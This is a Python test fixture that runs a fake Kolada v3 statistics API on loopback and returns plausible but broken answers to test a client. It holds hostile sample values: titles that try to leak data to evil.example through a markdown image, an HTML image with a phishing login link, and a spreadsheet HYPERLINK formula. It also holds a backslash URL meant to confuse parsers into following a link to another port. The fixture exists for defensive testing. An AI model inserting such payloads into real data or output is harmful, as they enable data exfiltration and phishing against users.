"""A fake Kolada v3 on loopback that answers with HTTP 200 but plausible, wrong bodies.

It serves a small made-up data set (``KPIS`` × ``KOMMUNER`` × ``YEARS``) in the exact v3 shape
and, depending on ``scenario``, breaks it: empty pages, a ``count`` that lies, null or foreign KPI
ids, an empty municipality list, next_url or 302 to another port, a next_url that changes
forever, a body that drips, an oversized body, injected titles, or no answer at all. Every
request is counted, so a test can assert that no request reached another server.
"""

from __future__ import annotations

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

KPIS = ["N30001", "N30026"]
KOMMUNER = {"0561": "Åtvidaberg", "0780": "Växjö", "1266": "Hörby", "1267": "Höör"}
YEARS = list(range(2018, 2023))
GROUP = "G36722"
INJECTED = {
    "kommun": "![x](http://evil.example/x.png)",
    "group": '<img src="http://evil.example/g.png"> [Logga in](http://evil.example/login)',
    "kpi": '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")',
}


def data_rows(kpis: list[str], years: list[int]) -> list[dict]:
    rows = []
    for kpi in kpis:
        for muni in KOMMUNER:
            for year in years:
                value = round(int(kpi[1:]) % 97 + int(muni) / 1000 + year - 2000, 4)
                cell = {"gender": "T", "count": 1, "status": "", "value": value}
                rows.append({"kpi": kpi, "municipality": muni, "period": year, "values": [cell]})
    return rows


class FakeKolada:
    """``with FakeKolada() as kolada:`` … ``kolada.base_url``; set ``kolada.scenario``."""

    def __init__(self, scenario: str = "ok", *, other_port: int | None = None):
        self.scenario = scenario
        self.other_port = other_port  # where next_url/302 scenarios point
        self.paths: list[str] = []
        self.lock = threading.Lock()
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
        self.server.fake = self
        self.server.daemon_threads = True
        self.thread = threading.Thread(
            target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        )

    @property
    def port(self) -> int:
        return self.server.server_address[1]

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v3"

    def __enter__(self) -> FakeKolada:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()

    # ---- answers -------------------------------------------------------------------------
    def listing(self, path: str, query: dict) -> tuple[list[dict], str | None]:
        """The rows for a path, and the next_url (None for the last page)."""
        parts = path.strip("/").split("/")[1:]  # after "v3"
        injected = self.scenario == "titles"
        if parts[0] == "kpi":
            ids = parts[1].split(",") if len(parts) > 1 else KPIS
            title = INJECTED["kpi"] if injected else "Nettokostnadsavvikelse"
            return [
                {"id": i, "title": f"{title} {i}", "publication_date": "2023-03-01"} for i in ids
            ], None
        if parts[0] == "municipality":
            if self.scenario == "empty_municipalities":
                return [], None
            return [
                {"id": i, "title": INJECTED["kommun"] if injected and i == "1266" else t,
                 "type": "K"}
                for i, t in KOMMUNER.items()
            ], None  # fmt: skip
        if parts[0] == "municipality_groups":
            title = INJECTED["group"] if injected else "Liknande kommuner IFO, Åtvidaberg, 2024"
            members = [{"member_id": i, "member_title": t} for i, t in KOMMUNER.items()]
            return [{"id": GROUP, "title": title, "members": members}], None
        return self.data(parts, query)

    def data(self, parts: list[str], query: dict) -> tuple[list[dict], str | None]:
        segments = dict(zip(parts[1::2], parts[2::2], strict=False))
        kpis = segments.get("kpi", ",".join(KPIS)).split(",")
        years = [int(y) for y in segments.get("year", ",".join(map(str, YEARS))).split(",")]
        rows = data_rows(kpis, [y for y in years if y in YEARS])
        page = int(query.get("page", ["1"])[0])
        scenario = self.scenario
        if scenario == "empty_page":
            return [], None
        if scenario == "half":  # a plausible answer that lost half the kommuner
            return [r for r in rows if r["municipality"] in ("0561", "0780")], None
        if scenario == "null_kpi":
            rows[0] = {**rows[0], "kpi": None}
        if scenario == "foreign_kpi":
            rows[-1] = {**rows[-1], "kpi": "N99999"}
        if scenario == "bad_value":
            rows[1] = {**rows[1], "values": [{"gender": "T", "value": "12,5"}]}
        if scenario == "bad_year":
            rows[2] = {**rows[2], "period": 1850}
        if scenario == "endless_next":
            return [], self._url(parts, page + 1)
        if scenario == "endless_full":  # full pages that point further for ever
            return rows, self._url(parts, page + 1)
        if scenario == "next_backslash" and page == 1:  # other port to urllib3, ours to urlsplit
            url = f"http://127.0.0.1:{self.other_port}\\@127.0.0.1:{self.port}/v3/kpi?page=2"
            return rows, url
        if scenario in ("next_other_port", "paged") and page == 1:
            half = len(rows) // 2
            port = self.other_port if scenario == "next_other_port" else self.port
            return rows[:half], self._url(parts, 2, port)
        if scenario == "paged" and page == 2:
            return rows[len(rows) // 2 :], None
        return rows, None

    def _url(self, parts: list[str], page: int, port: int | None = None) -> str:
        port = port or self.port
        return f"http://127.0.0.1:{port}/v3/{'/'.join(parts)}?per_page=5000&page={page}"


class _Handler(BaseHTTPRequestHandler):
    def log_message(self, *args) -> None:
        pass

    def do_GET(self) -> None:  # noqa: N802 - the http.server API
        fake: FakeKolada = self.server.fake
        with fake.lock:
            fake.paths.append(self.path)
        split = urlsplit(self.path)
        is_data = "/data/" in split.path
        if fake.scenario == "hang":
            time.sleep(30)
        if fake.scenario == "fail_while_hung":  # the group listing hangs; the kommun listing
            if "municipality_groups" in split.path:  # fails while it does
                time.sleep(30)
            elif split.path.endswith("/municipality"):
                time.sleep(0.3)
                self.send_error(404)
                return
        if is_data and fake.scenario == "header_drip":
            self._drip_headers()
            return
        if is_data and fake.scenario == "retry_after":
            self.send_response(503)
            self.send_header("Retry-After", "50")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        location = self._redirect_to(fake, split.path) if is_data else None
        if location:
            self._redirect(location)
            return
        path = split.path.replace("/data/moved/", "/data/")
        rows, next_url = fake.listing(path, parse_qs(split.query))
        count = len(rows)
        if is_data and fake.scenario == "count_lie":
            rows, count = rows[: len(rows) // 3], len(rows)
        body = json.dumps(
            {"values": rows, "count": count, "next_url": next_url, "previous_url": None},
            ensure_ascii=False,
        ).encode("utf-8")
        if is_data and fake.scenario == "oversized":
            body = body[:-1] + b" " * (2 * 2**20) + b"}"
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if is_data and fake.scenario == "drip":
            self._drip(body)
        else:
            self.wfile.write(body)

    def _drip_headers(self) -> None:
        """Headers one short line at a time, for ever (a read timeout never fires)."""
        try:
            self.wfile.write(b"HTTP/1.1 200 OK\r\n")
            for i in range(600):
                self.wfile.write(f"X-Drip-{i}: 1\r\n".encode())
                self.wfile.flush()
                time.sleep(0.05)
        except OSError:
            pass

    def _redirect_to(self, fake: FakeKolada, path: str) -> str | None:
        if fake.scenario == "redirect_other_port":
            return f"http://127.0.0.1:{fake.other_port}{self.path}"
        if fake.scenario == "redirect_same" and "moved" not in path:
            return self.path.replace("/data/", "/data/moved/", 1)
        return None

    def _redirect(self, location: str) -> None:
        self.send_response(302)
        self.send_header("Location", location)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def _drip(self, body: bytes) -> None:
        try:
            for i in range(0, len(body), 16):
                self.wfile.write(body[i : i + 16])
                self.wfile.flush()
                time.sleep(0.05)
        except OSError:  # the client gave up: that is the point
            pass
